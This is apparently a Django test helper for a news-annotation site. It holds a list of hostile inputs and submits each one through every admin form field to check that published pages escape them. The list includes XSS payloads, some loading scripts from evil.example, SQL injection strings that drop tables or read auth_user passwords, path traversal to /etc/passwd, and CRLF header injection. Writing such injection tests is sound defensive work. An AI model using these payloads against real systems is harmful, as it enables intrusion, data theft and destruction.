"""A corpus of hostile input, and entering it through the admin the way an editor account could.

Every payload that tries to create markup carries a marker (an element with ``data-pwned`` or the id
``pwned``), so a test can tell escaped text from injected elements whatever a browser would run.
"""

from __future__ import annotations

import itertools
import re
from dataclasses import dataclass, field

from django.test import Client
from django.urls import reverse

from annotations.models import Annotation, Rating, Source
from articles.models import Article, Author, Outlet

PAYLOADS = [
    # Script tags and event handlers
    "<script>alert('xss-1')</script><b data-pwned>1</b>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><b data-pwned>2</b>",
    "<img src=x onerror=alert('xss-3') data-pwned>",
    "<svg onload=alert('xss-4') id=pwned></svg>",
    "<body onload=alert('xss-5') data-pwned>",
    "<iframe src=javascript:alert('xss-6') data-pwned></iframe>",
    "<details open ontoggle=alert('xss-7') data-pwned>",
    "<input autofocus onfocus=alert('xss-8') data-pwned>",
    "<video><source onerror=alert('xss-9') data-pwned></video>",
    "<marquee onstart=alert('xss-10') data-pwned>x</marquee>",
    "<a href=javascript:alert('xss-11') data-pwned>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-12') data-pwned>",
    "<object data=javascript:alert('xss-13') data-pwned></object>",
    "<embed src=javascript:alert('xss-14') data-pwned>",
    "<form action=javascript:alert('xss-15')><button data-pwned>go</button></form>",
    "<isindex type=image src=1 onerror=alert('xss-16') data-pwned>",
    "<scr<script>ipt>alert('xss-17')</scr</script>ipt><b data-pwned>17</b>",
    "<img src=x oNeRrOr=alert`xss-18` data-pwned>",
    "<img/src=x/onerror=alert('xss-19')/data-pwned>",
    "<style>@import 'javascript:alert(20)';</style><b data-pwned>20</b>",
    # Attribute and context breakouts
    "\"><img src=x onerror=alert('xss-21') data-pwned>",
    "'><img src=x onerror=alert('xss-22') data-pwned>",
    '" onmouseover="alert(\'xss-23\')" data-pwned="',
    "' onfocus='alert(24)' autofocus data-pwned='",
    "</textarea><img src=x onerror=alert('xss-25') data-pwned>",
    "</title><img src=x onerror=alert('xss-26') data-pwned>",
    "</script><img src=x onerror=alert('xss-27') data-pwned>",
    '</script><script>alert("xss-28")</script><b data-pwned>28</b>',
    "<!--<img src=x onerror=alert('xss-29') data-pwned>-->",
    "]]><img src=x onerror=alert('xss-30') data-pwned><![CDATA[",
    '{"@context": "x", "name": "</script><b data-pwned>31</b>"}',
    "\\u003c/script\\u003e<b data-pwned>32</b>",
    "`${alert('xss-33')}`<b data-pwned>33</b>",
    "{{ 7*7 }}{% debug %}<b data-pwned>34</b>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-35') data-pwned>\">",
    "<base href=//evil.example/><b data-pwned>36</b>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(37)'><b data-pwned>37</b>",
    "<link rel=stylesheet href=//evil.example/x.css><b data-pwned>38</b>",
    # URLs with dangerous schemes, in text
    "javascript:alert('xss-39')",
    "JaVaScRiPt:alert('xss-40')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4=",
    "vbscript:msgbox(42)",
    "  javascript:alert(43)",
    # SVG
    "<svg><script>alert('xss-44')</script><g id=pwned></g></svg>",
    "<svg><animate onbegin=alert('xss-45') attributeName=x data-pwned></animate></svg>",
    "<svg><a xlink:href=javascript:alert(46)><text data-pwned>46</text></a></svg>",
    # Unicode tricks
    "Evil\u202egnp.exe<b data-pwned>47</b>",
    "zero\u200bwidth\u200c join\u200d<b data-pwned>48</b>",
    "\ufeff<scr\u200bipt>alert(49)</script><b data-pwned>49</b>",
    "＜script＞alert('xss-50')＜/script＞",
    "\u0000<img src=x onerror=alert(51) data-pwned>",
    "Ｊａｖａｓｃｒｉｐｔ：alert(52)",
    # SQL metacharacters
    "'; DROP TABLE articles_article; --",
    '" OR 1=1 --',
    "1' UNION SELECT username, password FROM auth_user --",
    "%' AND 1=0 UNION SELECT NULL --",
    "Robert'); DELETE FROM annotations_annotation;--",
    # Path traversal
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    # Header and template oddities
    "line\r\nSet-Cookie: pwned=1",
    "<<b data-pwned>62</b>",
]

NON_WEB_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "mailto:a@example.org",
    "http://<script>/",
]

# What a marker would look like once injected: escaped text never matches.
# An element carrying the payloads' marker as an attribute (not as text inside a URL or a slug).
INJECTED = re.compile(r"<[a-z]+[^>]*\s(data-pwned|id=[\"']?pwned)(?=[\s=>/\"'])", re.IGNORECASE)


def clean_for_db(text: str) -> str:
    # PostgreSQL refuses NUL in text, whatever the form says; the form is not the point here.
    return text.replace("\x00", "")


@dataclass
class Entered:
    articles: list[Article] = field(default_factory=list)
    annotations: list[Annotation] = field(default_factory=list)
    sources: list[Source] = field(default_factory=list)
    ratings: list[Rating] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


def _post(client: Client, url: str, data: dict, what: str, entered: Entered) -> bool:
    response = client.post(url, data)
    if response.status_code != 302:
        errors = ""
        if response.context and "adminform" in response.context:
            errors = response.context["adminform"].form.errors.as_text()
            for formset in response.context.get("inline_admin_formsets", []):
                errors += str(formset.formset.errors) + str(formset.formset.non_form_errors())
        entered.problems.append(f"{what}: {response.status_code} {errors}")
        return False
    return True


def enter_through_admin(client: Client, payloads: list[str] = PAYLOADS) -> Entered:
    """Every payload into every user-entered field, through the admin add forms, then published."""
    entered = Entered()
    counter = itertools.count(1)
    for payload in payloads:
        n = next(counter)
        text = clean_for_db(payload)
        short = text[:150]

        _post(
            client,
            reverse("admin:articles_outlet_add"),
            {
                "name": f"{short} outlet {n}",
                "slug": "",
                "homepage": "https://example.org/",
                "country": short,
                "notes": text,
            },
            "outlet",
            entered,
        )
        outlet = Outlet.objects.order_by("-pk").first()
        _post(
            client,
            reverse("admin:articles_author_add"),
            {"name": f"{short} author {n}", "slug": "", "role": short, "outlet": outlet.pk},
            "author",
            entered,
        )
        author = Author.objects.order_by("-pk").first()
        _post(
            client,
            reverse("admin:annotations_rating_add"),
            {
                "label": f"{text[:45]} {n}",
                "slug": f"hostile-{n}",
                "value": "",
                "description": text,
                "colour": "#123456",
                "order": "50",
            },
            "rating",
            entered,
        )
        rating = Rating.objects.get(slug=f"hostile-{n}")
        entered.ratings.append(rating)
        _post(
            client,
            reverse("admin:annotations_source_add"),
            {
                "url": f"https://example.org/hostile/{n}",
                "title": text[:500],
                "publisher": short,
                "published_on": "",
                "accessed_on": "",
                "archived_url": "",
                "kind": "other",
            },
            "source",
            entered,
        )
        source = Source.objects.get(url=f"https://example.org/hostile/{n}")
        entered.sources.append(source)

        paragraph_text = f"Plain lead-in {n}. {text} Closing words {n}."
        ok = _post(
            client,
            reverse("admin:articles_article_add"),
            {
                "title": f"{text[:480]} {n}",
                "slug": "",
                "author": author.pk,
                "outlet": outlet.pk,
                "published_on": "2025-02-04",
                "original_url": "https://example.org/original",
                "language": "en",
                "tags": f'"{short}", hostile',
                "status": Article.Status.PUBLISHED,
                "paragraphs-TOTAL_FORMS": "2",
                "paragraphs-INITIAL_FORMS": "0",
                "paragraphs-MIN_NUM_FORMS": "0",
                "paragraphs-MAX_NUM_FORMS": "1000",
                "paragraphs-0-position": "1",
                "paragraphs-0-role": "lede",
                "paragraphs-0-text": paragraph_text,
                "paragraphs-1-position": "2",
                "paragraphs-1-role": "quote",
                "paragraphs-1-text": text.strip() or "x",
            },
            "article",
            entered,
        )
        if not ok:
            continue
        article = Article.objects.order_by("-pk").first()
        entered.articles.append(article)
        paragraph = article.paragraphs.get(position=1)
        quote = f"Plain lead-in {n}."
        ok = _post(
            client,
            reverse("admin:annotations_annotation_add"),
            {
                "kind": "claim",
                "status": "published",
                "paragraph": paragraph.pk,
                "exact": quote,
                "prefix": "",
                "suffix": "",
                "start": "",
                "end": "",
                "claim_text": text,
                "claimant": short,
                "rating": rating.pk,
                "conclusion": text[:300],
                "body": text,
                "tags": f'"{short}"',
                "citations-TOTAL_FORMS": "1",
                "citations-INITIAL_FORMS": "0",
                "citations-MIN_NUM_FORMS": "0",
                "citations-MAX_NUM_FORMS": "1000",
                "citations-0-source": source.pk,
                "citations-0-pinpoint": short,
                "citations-0-quote": text,
                "citations-0-order": "0",
                "corrections-TOTAL_FORMS": "1",
                "corrections-INITIAL_FORMS": "0",
                "corrections-MIN_NUM_FORMS": "0",
                "corrections-MAX_NUM_FORMS": "1000",
                "corrections-0-date": "2025-02-05",
                "corrections-0-old_rating": Rating.objects.get(slug="true").pk,
                "corrections-0-new_rating": rating.pk,
                "corrections-0-note": text,
            },
            "annotation",
            entered,
        )
        if ok:
            entered.annotations.append(Annotation.objects.order_by("-pk").first())
        ok = _post(
            client,
            reverse("admin:annotations_annotation_add"),
            {
                "kind": "note",
                "status": "published",
                "paragraph": article.paragraphs.get(position=2).pk,
                "exact": "",
                "prefix": "",
                "suffix": "",
                "start": "",
                "end": "",
                "claim_text": "",
                "claimant": "",
                "rating": "",
                "conclusion": "",
                "body": text,
                "tags": "",
                "citations-TOTAL_FORMS": "0",
                "citations-INITIAL_FORMS": "0",
                "corrections-TOTAL_FORMS": "0",
                "corrections-INITIAL_FORMS": "0",
            },
            "note",
            entered,
        )
        if ok:
            entered.annotations.append(Annotation.objects.order_by("-pk").first())
    return entered
